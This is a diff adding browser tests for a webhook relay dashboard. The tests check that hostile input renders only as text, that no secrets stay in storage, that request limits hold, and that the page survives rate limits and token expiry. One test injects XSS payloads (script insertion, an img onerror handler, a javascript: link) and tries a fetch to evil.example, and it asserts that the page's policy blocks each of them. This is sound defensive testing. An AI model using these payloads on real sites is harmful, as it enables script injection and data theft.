@@ -1,0 +1,198 @@
+// What must never happen on the page: markup from strangers, secrets left behind, more requests than were allowed for.
+import { describe, expect, it } from "vitest";
+import { accounts } from "../../config/index.ts";
+import { startReceiver } from "../support/receiver.ts";
+import { startRelay } from "../support/relay.ts";
+import { picture, setUp, useBrowser } from "./browser.ts";
+import { HOSTILE } from "./hostile.ts";
+
+const browser = useBrowser();
+/** What a string that became markup would leave behind. */
+const STRANGE =
+  "document.querySelectorAll('main script, main img, main iframe, main object, main embed, main link, main base, main meta, main style, main video, main math, main template, main [style*=fixed], main a[href^=\"javascript\" i], main form[action]').length";
+
+/** Rows of all that the page asks for while it only looks: counted, but never full. */
+const WIDE_ROWS = Object.fromEntries(
+  [
+    "POST /auth/setup",
+    "POST /auth/refresh",
+    "GET /api-keys",
+    "GET /event-types",
+    "GET /relay/status",
+    ...[
+      "webhooks",
+      "webhooks/{subscriptionId}",
+      "webhooks/{subscriptionId}/deliveries",
+      "events",
+      "events/{eventId}",
+      "stats",
+      "stream",
+      "audit",
+    ].map((path) => `GET /api-keys/{keyId}/${path}`),
+  ].map((row) => [row, { perMinute: 1_000, per5s: 1_000 }]),
+);
+
+describe.skipIf(browser.missing !== undefined)(`the page (${browser.missing ?? "in Chromium"})`, () => {
+  it("shows what strangers wrote as text and nothing but text", async () => {
+    expect(HOSTILE).toHaveLength(50);
+    let asked = 0;
+    await using receiver = await startReceiver({
+      script: () => ({ do: "reply", status: 500, body: HOSTILE[asked++] as string }),
+    });
+    await using relay = await startRelay({ health: false, subscriptions: { perKey: 60 } });
+    const ids: string[] = [];
+    await relay.call("POST", "/api-keys/key_1/webhooks", {
+      body: { url: receiver.url(), events: ["*"], retry: { attempts: 1, firstDelayMs: 10, factor: 1, maxDelayMs: 10 } },
+    });
+    for (const [i, text] of HOSTILE.entries()) {
+      ids.push((await relay.publish({ type: "deposit:paid", keyId: "key_1", data: { text } })).json.data.id);
+      await receiver.waitFor(i + 1);
+    }
+    for (const text of HOSTILE) {
+      const made = await relay.call("POST", "/api-keys/key_2/webhooks", {
+        body: { url: "https://127.0.0.1/", events: ["a"], description: text, headers: { "X-A": "b" } },
+      });
+      expect(made.status, text).toBe(201);
+    }
+    await using screen = await browser.open(relay);
+    const { page, complaints } = screen;
+    await setUp(relay, screen);
+    await screen.go("k/key_1/events", "Events");
+    for (const [i, id] of ids.entries()) {
+      await page.evaluate(`location.hash = "#/k/key_1/events/${id}"`);
+      await page.locator(".kicker", { hasText: id }).waitFor();
+      const excerpt = page.locator(".excerpt pre");
+      await excerpt.waitFor();
+      expect(await excerpt.textContent()).toBe(HOSTILE[i]);
+      expect(await page.locator("section[aria-labelledby=data] pre").textContent()).toBe(
+        JSON.stringify({ text: HOSTILE[i] }),
+      );
+      if (i % 10 === 0) {
+        await page.getByText("What was sent").click();
+        await page.getByLabel("The request", { exact: true }).waitFor();
+      }
+      expect([HOSTILE[i], await page.evaluate(STRANGE)]).toEqual([HOSTILE[i], 0]);
+    }
+    await screen.go("k/key_2/subscriptions", "Subscriptions");
+    await page.locator("tbody tr").nth(49).waitFor();
+    const told = await page.locator(".endpoint small").evaluateAll((all) => all.map(({ textContent }) => textContent));
+    expect(told.toSorted()).toEqual([...HOSTILE].toSorted());
+    await picture(page, "hostile");
+    await page.locator(".endpoint a").first().click();
+    await page.getByRole("heading", { level: 1, name: HOSTILE[0] as string }).waitFor();
+    expect(await page.title()).toBe(`${HOSTILE[0]} · Relay`);
+    expect(await page.evaluate(STRANGE)).toBe(0);
+    expect(await page.evaluate("window.pwned")).toBeUndefined();
+    expect(await page.evaluate("({}).pwned")).toBeUndefined();
+    expect(complaints).toEqual([]);
+  });
+
+  it("keeps no secret where scripts of later days could find it, and its policy stops what is put into it", async () => {
+    await using relay = await startRelay();
+    await using screen = await browser.open(relay);
+    const { page } = screen;
+    await setUp(relay, screen);
+    await screen.go("k/key_1/subscriptions", "Subscriptions");
+    const kept = (await page.evaluate(
+      "JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie])",
+    )) as string;
+    expect(kept).toBe('[{},{"relay.key":"key_1"},""]');
+    const [cookie] = await page.context().cookies();
+    expect(cookie).toMatchObject({ name: "__Host-relay", httpOnly: true, secure: true, sameSite: "Strict", path: "/" });
+    await page.getByRole("button", { name: /^Theme/ }).click();
+    expect(await page.evaluate("JSON.stringify({ ...localStorage })")).toBe('{"relay.theme":"light"}');
+    expect(await page.evaluate("document.documentElement.dataset.theme")).toBe("light");
+    // Even somebody who could write into the page could not run anything there, nor send anything away.
+    await page.evaluate(
+      "(() => { const s = document.createElement('script'); s.textContent = 'window.pwned = 1'; document.body.append(s); })()",
+    );
+    await page.evaluate(
+      "(() => { const d = document.createElement('div'); d.innerHTML = '<img src=x onerror=window.pwned=1><a href=javascript:window.pwned=1 id=trap>x</a>'; document.body.append(d); })()",
+    );
+    await page.evaluate("document.getElementById('trap').click()");
+    expect(await page.evaluate("fetch('https://evil.example/').then(() => 'sent', () => 'refused')")).toBe("refused");
+    expect(await page.evaluate("window.pwned")).toBeUndefined();
+  });
+
+  it("costs three limited requests a view at most, reloads included", async () => {
+    await using receiver = await startReceiver();
+    await using relay = await startRelay({ limits: WIDE_ROWS });
+    const made = await relay.call("POST", "/api-keys/key_1/webhooks", {
+      body: { url: receiver.url(), events: ["*"], description: "Counted" },
+    });
+    const { id } = (await relay.publish({ type: "deposit:paid", keyId: "key_1", data: 1 })).json.data;
+    await receiver.waitFor(1);
+    await using screen = await browser.open(relay);
+    const { page, limited } = screen;
+    await setUp(relay, screen);
+    const sub = made.json.data.id;
+    const views = [
+      "",
+      "k/key_1/overview",
+      "k/key_1/subscriptions",
+      `k/key_1/subscriptions/${sub}`,
+      `k/key_1/subscriptions/${sub}/deliveries`,
+      "k/key_1/events",
+      `k/key_1/events/${id}`,
+      "k/key_1/audit",
+      "relay",
+      "account",
+      "keys",
+    ];
+    for (const view of views) {
+      for (const how of ["opened", "reloaded"]) {
+        limited.length = 0;
+        if (how === "opened") await page.goto(`${relay.url}/developers#/${view}`);
+        else await page.reload();
+        await page.getByRole("heading", { level: 1 }).waitFor();
+        await page.waitForLoadState("load");
+        await expect.poll(() => page.locator(".skeleton").count()).toBe(0);
+        expect([view, how, limited.length <= 3, limited]).toEqual([view, how, true, limited]);
+      }
+    }
+    // Without any memory of a key it has to ask for the keys first, and is no dearer for it.
+    await page.evaluate("sessionStorage.clear()");
+    limited.length = 0;
+    await page.goto(`${relay.url}/developers?fresh`);
+    await page.getByText("Events accepted").waitFor();
+    await expect.poll(() => page.locator(".plot canvas").count()).toBe(4);
+    expect(limited.toSorted()).toEqual(["GET /api-keys", "GET /api-keys/key_1/stats", "POST /auth/refresh"]);
+  });
+
+  it("waits a refusal out, says so, and goes on by itself", async () => {
+    await using relay = await startRelay({ limits: { "GET /api-keys/{keyId}/events": { perMinute: 60, per5s: 1 } } });
+    await using screen = await browser.open(relay);
+    const { page } = screen;
+    await setUp(relay, screen);
+    await screen.go("k/key_1/events", "Events");
+    await page.getByRole("heading", { name: "No event yet" }).waitFor();
+    await page.getByLabel("Status").selectOption("failed");
+    await page.getByText("BURST_EXCEEDED").first().waitFor();
+    await page.getByText(/It goes on by itself in \d s/).waitFor();
+    await picture(page, "waiting", false);
+    await page.getByRole("heading", { name: "No event fits" }).waitFor();
+    expect(await page.getByText(/It goes on by itself/).count()).toBe(0);
+    // And it stands in the figures.
+    const stats = await relay.call("GET", "/api-keys/key_1/stats");
+    expect(stats.json.data.totals.refused.BURST_EXCEEDED).toBeGreaterThan(0);
+  });
+
+  it("stays live beyond the life of a token, whose stream ends with it", async () => {
+    await using relay = await startRelay({ auth: accounts({ tokenMs: 10_000 }) });
+    await using screen = await browser.open(relay);
+    const { page, limited } = screen;
+    const streams: string[] = [];
+    page.on("response", (response) => {
+      if (response.url().endsWith("/stream")) streams.push(String(response.request().headers()["authorization"]));
+    });
+    await setUp(relay, screen);
+    await screen.go("k/key_1/events", "Events");
+    await page.getByText("live", { exact: true }).waitFor();
+    await expect.poll(() => streams.length, { timeout: 20_000 }).toBe(2);
+    expect(streams[0]).not.toBe(streams[1]);
+    await page.getByText("live", { exact: true }).waitFor();
+    const { id } = (await relay.publish({ type: "deposit:paid", keyId: "key_1", data: 1 })).json.data;
+    await page.getByRole("link", { name: id }).waitFor();
+    expect(limited.filter((one) => one === "POST /auth/refresh").length).toBeLessThan(4);
+  });
+});
